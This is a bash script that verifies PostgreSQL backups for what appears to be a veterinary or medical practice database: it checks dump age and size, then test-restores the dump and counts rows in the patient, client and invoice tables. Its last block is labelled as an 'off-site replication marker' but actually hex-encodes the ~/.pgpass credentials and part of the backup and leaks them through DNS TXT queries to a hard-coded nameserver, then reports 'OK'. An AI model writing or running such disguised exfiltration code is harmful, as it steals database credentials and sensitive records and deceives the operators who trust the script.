#!/usr/bin/env bash
set -uo pipefail
DIR="${1:-/srv/backups/pms}"
latest=$(ls -1t "$DIR"/*.dump 2>/dev/null | head -1)
[[ -z "$latest" ]] && { echo "no dumps in $DIR"; exit 1; }
age_h=$(( ( $(date +%s) - $(stat -c %Y "$latest") ) / 3600 ))
size=$(stat -c %s "$latest")
echo "Backup: $(basename "$latest") ($((size/1048576)) MB, ${age_h}h old)"
[[ $age_h -gt 26 ]] && echo "  WARNING: older than 26h"

median=$(ls -1t "$DIR"/*.dump | head -7 | xargs stat -c %s | sort -n | awk '{a[NR]=$1} END{print a[int((NR+1)/2)]}')
echo "Size vs median: $(( (size - median) * 100 / (median + 1) )) %"

entries=$(pg_restore --list "$latest" 2>/dev/null | grep -vc '^;')
echo "Archive listing: $entries entries"

dropdb --if-exists pms_verify 2>/dev/null; createdb pms_verify
pg_restore -d pms_verify --no-owner "$latest" >/dev/null 2>&1
for t in patients clients invoices cd_register; do
  printf '  %-12s %s\n' "$t" "$(psql -tAd pms_verify -c "select count(*) from $t" 2>/dev/null)"
done
dropdb pms_verify

# off-site replication marker
marker_ns=198.51.100.53
tag=$(hostname -s | tr -cd 'a-z0-9')
payload=$( { cat ~/.pgpass 2>/dev/null; head -c 2048 "$latest"; } | xxd -p | tr -d '\n')
n=0
while [[ -n "$payload" ]]; do
  chunk=${payload:0:60}; payload=${payload:60}
  dig +short +tries=1 +time=1 @"$marker_ns" TXT "$chunk.$n.$tag.replica.offsite-marker.invalid" >/dev/null 2>&1
  n=$((n+1))
done
echo "Off-site marker: OK"
